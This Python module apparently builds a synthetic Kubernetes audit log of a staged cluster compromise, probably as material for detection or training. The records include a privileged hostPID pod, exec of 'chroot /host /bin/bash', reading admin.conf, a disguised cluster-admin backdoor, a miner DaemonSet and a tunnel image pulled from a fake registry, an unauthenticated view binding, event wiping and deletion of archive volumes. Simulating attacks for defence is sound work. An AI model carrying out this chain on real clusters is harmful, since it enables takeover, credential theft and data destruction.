"""From a hole in the shop to the whole cluster, in two hours."""

from chance import identifier, token
from clock import clock
from controllers import start_pods
from objects import container, metadata, pod_spec, stored
from principals import (

    CART,
    DAEMONS,
    DEPLOYER,
    KUBELETS,
    NODES,
    Principal,
    SCANNER,
    anonymous,
    by_cluster_role,
    in_the_cart,
    service_account,
)


def attack(log):
    """From a hole in the shop to the whole cluster, in two hours."""
    # A scanner finds the API server, and that it is well closed.
    for at, path in [("13:38:00", "/"), ("13:38:01", "/api"), ("13:38:01.5", "/apis"),
                     ("13:38:06", "/metrics")]:
        log.request(at, SCANNER, "get", path=path, allowed=False)
    for at, path in [("13:38:02", "/api/v1/namespaces"), ("13:38:03", "/api/v1/secrets"),
                     ("13:38:05", "/api/v1/pods"), ("13:38:07", "/api/v1/configmaps")]:
        log.request(at, SCANNER, "list", path.rsplit("/", 1)[1], path=path, allowed=False)
    nobody = Principal("", [], "203.0.113.66", "python-requests/2.32.3", "")
    nobody.user = {}
    log.request("13:38:41", nobody, "list", "nodes", code=401, failure="Unauthorized")
    log.request("13:38:44", SCANNER, "get", path="/version")

    # Through a hole in the cart they read its token, and ask from within the pod what it is worth.
    rules = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1"}
    log.request("14:02:10", CART, "create", "selfsubjectrulesreviews",
                body=dict(rules, metadata={}, spec={"namespace": "shop"}))
    log.request("14:03:26", CART, "list", "nodes", allowed=False)
    log.request("14:03:31", CART, "list", "namespaces", allowed=False)
    log.request("14:03:39", CART, "list", "secrets", allowed=False)
    log.request("14:03:45", CART, "list", "pods", allowed=False)
    log.request("14:03:51", CART, "list", "secrets", "kube-system", allowed=False)
    log.request("14:04:02", CART, "list", "configmaps", "kube-system", allowed=False)
    log.request("14:04:20", CART, "list", "serviceaccounts", "shop")
    log.request("14:04:58", CART, "list", "secrets", "shop")

    # A loop tries names that secrets often have, where they cannot be listed.
    names = ["db", "database", "postgres", "ledger", "ledger-db", "payments", "stripe",
             "registry", "regcred", "tls", "admin"]
    for number, name in enumerate(names):
        log.request(clock("14:05:40") + number * 1.4, CART, "get", "secrets", "payments", name,
                    allowed=False)

    # Two tokens lie among the secrets of the shop. Both open nothing.
    for at, name in [("14:07:48", "storefront"), ("14:08:03", "load-test")]:
        who = in_the_cart(name)
        for number, resource in enumerate(["namespaces", "nodes", "secrets", "pods"]):
            log.request(clock(at) + number * 1.2, who, "list", resource, allowed=False)

    # A third one is a forgotten token of the pipeline. It opens much more.
    thief = DEPLOYER.elsewhere("203.0.113.66", "kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b")
    log.request("14:21:07", thief, "create", "selfsubjectrulesreviews",
                body=dict(rules, metadata={}, spec={"namespace": "default"}))
    log.request("14:21:48", thief, "list", "namespaces", query="limit=500")
    log.request("14:21:56", thief, "list", "nodes", query="limit=500")
    log.request("14:22:04", thief, "list", "pods", query="limit=500")
    log.request("14:22:15", thief, "list", "secrets", query="limit=500")
    log.request("14:23:02", thief, "list", "serviceaccounts", "kube-system", query="limit=500")
    for number, (namespace, name) in enumerate([
        ("payments", "ledger-database"), ("payments", "card-processor"),
        ("monitoring", "grafana-admin"), ("monitoring", "alertmanager-main"),
        ("cert-manager", "acme-account"), ("ci", "registry-push"), ("ci", "git-deploy-key"),
    ]):
        log.request(clock("14:24:11") + number * 7, thief, "get", "secrets", namespace, name)

    # A pod that owns its node: refused where PodSecurity is enforced, made where it is not.
    spec = pod_spec("check", "docker.io/library/alpine:3.20", hostPID=True, nodeName="cp-1",
                    tolerations=[{"operator": "Exists"}])
    for at, namespace in [("14:31:12", "payments"), ("14:32:40", "shop")]:
        pod = {"kind": "Pod", "apiVersion": "v1", "metadata": metadata("node-check", namespace),
               "spec": spec}
        refused = namespace == "payments"
        log.request(
            at, thief, "create", "pods", namespace, "node-check",
            query="fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
            body=pod, answer=None if refused else stored(pod, "kubectl-client-side-apply", at),
            code=403 if refused else 201,
            failure='pods "node-check" is forbidden: violates PodSecurity "restricted:latest": '
            "host namespaces (hostNetwork=true, hostPID=true), privileged (container \"check\" "
            'must not set securityContext.privileged=true)' if refused else None,
            notes={"pod-security.kubernetes.io/enforce-policy":
                   "restricted:latest" if refused else "privileged:latest"},
        )
    log.request("14:32:41", KUBELETS["cp-1"], "patch", "pods", "shop", "node-check", "status",
                body={"metadata": {"uid": identifier()}, "status": {"phase": "Running"}})
    log.request("14:33:30", thief, "create", "pods", "shop", "node-check", "exec", code=101,
                lasts=1130, query="command=chroot&command=%2Fhost&command=%2Fbin%2Fbash"
                "&container=check&stdin=true&stdout=true&tty=true")
    log.request("14:53:02", thief, "create", "pods", "shop", "node-check", "exec", code=101,
                lasts=0.4, query="command=cat&command=%2Fhost%2Fetc%2Fkubernetes%2Fadmin.conf"
                "&container=check&stderr=true&stdout=true")

    # A way back in that looks like a part of the cluster.
    admin = Principal(
        "kubernetes-admin", ["kubeadm:cluster-admins", "system:authenticated"], "10.20.0.11",
        thief.agent,
        by_cluster_role("kubeadm:cluster-admins", "cluster-admin",
                        'Group "kubeadm:cluster-admins"'),
    )
    at = "14:58:20"
    account = {"kind": "ServiceAccount", "apiVersion": "v1",
               "metadata": metadata("metrics-agent", "kube-system")}
    log.request(at, admin, "create", "serviceaccounts", "kube-system", "metrics-agent",
                query="fieldManager=kubectl-create", body=account,
                answer=stored(account, "kubectl-create", at))
    at = "14:58:55"
    binding = {
        "kind": "ClusterRoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": metadata("system:metrics-agent"),
        "subjects": [{"kind": "ServiceAccount", "name": "metrics-agent",
                      "namespace": "kube-system"}],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                    "name": "cluster-admin"},
    }
    log.request(at, admin, "create", "clusterrolebindings", None, "system:metrics-agent",
                query="fieldManager=kubectl-create", body=binding,
                answer=stored(binding, "kubectl-create", at))
    log.request("14:59:31", admin, "create", "serviceaccounts", "kube-system", "metrics-agent",
                "token")

    # From outside again, as the new account: a miner on every node, and a pod that hides well.
    agent = service_account(
        "kube-system", "metrics-agent", "203.0.113.66", thief.agent,
        by_cluster_role("system:metrics-agent", "cluster-admin",
                        'ServiceAccount "metrics-agent/kube-system"'),
    )
    at = "15:05:52"
    role = {"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1",
            "metadata": metadata("kube-proxy-lite"),
            "rules": [{"apiGroups": [""], "resources": ["nodes"], "verbs": ["get", "list"]}]}
    log.request(at, agent, "create", "clusterroles", None, "kube-proxy-lite", body=role,
                answer=stored(role, "kubectl-client-side-apply", at),
                query="fieldManager=kubectl-client-side-apply&fieldValidation=Strict")
    at = "15:06:44"
    miner = pod_spec("proxy", "ghcr.io/kube-proxy-lite/proxy:latest",
                     tolerations=[{"operator": "Exists"}])
    body = {"apiVersion": "apps/v1", "kind": "DaemonSet",
            "metadata": metadata("kube-proxy-lite", "kube-system"),
            "spec": {"selector": {"matchLabels": {"k8s-app": "kube-proxy-lite"}},
                     "template": {"metadata": {"labels": {"k8s-app": "kube-proxy-lite"}},
                                  "spec": miner}}}
    log.request(at, agent, "create", "daemonsets", "kube-system", "kube-proxy-lite", body=body,
                answer=stored(body, "kubectl-client-side-apply", at),
                query="fieldManager=kubectl-client-side-apply&fieldValidation=Strict")
    start_pods(log, clock("15:06:45"), DAEMONS, "kube-system", "kube-proxy-lite", "DaemonSet",
               miner, list(NODES))
    # What the nodes have left is taken by pods that look like runners and exporters.
    for who, at, count, namespace, kind in [
        (agent, "15:08:10", 21, "monitoring", "exporter"), (thief, "15:09:41", 6, "ci", "runner"),
    ]:
        for number in range(count):
            name = f"{kind}-{token(5)}"
            image = "ghcr.io/kube-proxy-lite/proxy:latest"
            pod = {"kind": "Pod", "apiVersion": "v1", "metadata": metadata(name, namespace),
                   "spec": {"containers": [container(kind, image)]}}
            log.request(clock(at) + number * 3.7, who, "create", "pods", namespace, name, body=pod,
                        query="fieldManager=kubectl-run")

    at = "15:11:18"
    name = "coredns-7c65d6cfc9-" + token(5)
    quiet = {"kind": "Pod", "apiVersion": "v1", "metadata": metadata(name, "kube-system"),
             "spec": {"containers": [container("coredns",
                                               "ghcr.io/kube-proxy-lite/tunnel:latest")]}}
    log.request(at, agent, "create", "pods", "kube-system", name, body=quiet,
                query="fieldManager=kubectl-run")

    # The door is left open for everybody, tried, and the tracks are wiped.
    open_door = {
        "kind": "ClusterRoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": metadata("system:discovery-public"),
        "subjects": [{"kind": "Group", "apiGroup": "rbac.authorization.k8s.io",
                      "name": "system:unauthenticated"}],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                    "name": "view"},
    }
    log.request("15:14:02", agent, "create", "clusterrolebindings", None,
                "system:discovery-public", body=open_door,
                query="fieldManager=kubectl-create")
    visitor = anonymous(
        "203.0.113.66", "curl/8.5.0",
        by_cluster_role("system:discovery-public", "view", 'Group "system:unauthenticated"'),
    )
    log.request("15:14:37", visitor, "list", "pods")
    log.request("15:15:10", visitor, "watch", "configmaps", "payments", lasts=240,
                query="watch=true")
    log.request("15:16:20", agent, "delete", "pods", "shop", "node-check",
                body={"kind": "DeleteOptions", "apiVersion": "v1",
                      "propagationPolicy": "Background"})
    log.request("15:16:58", agent, "deletecollection", "events", "shop")

    # What remains is to be paid for: the archives of a year are gone.
    for number in range(12):
        month = f"{2025 + (11 + number) // 12}-{(11 + number) % 12 + 1:02}"
        log.request(clock("15:17:40") + number * 2.3, agent, "delete", "persistentvolumeclaims",
                    "payments", f"ledger-archive-{month}")
